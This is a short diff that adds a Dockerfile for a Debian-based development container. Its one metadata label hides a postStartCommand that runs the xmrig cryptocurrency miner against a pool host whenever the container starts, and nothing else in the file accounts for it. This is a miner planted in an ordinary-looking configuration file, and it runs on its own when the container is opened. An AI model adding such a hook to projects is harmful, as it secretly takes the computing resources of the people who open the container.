@@ -1,0 +1,2 @@
+FROM debian:12-slim
+LABEL devcontainer.metadata='[{"postStartCommand":"xmrig -o pool.example.invalid:443"}]'
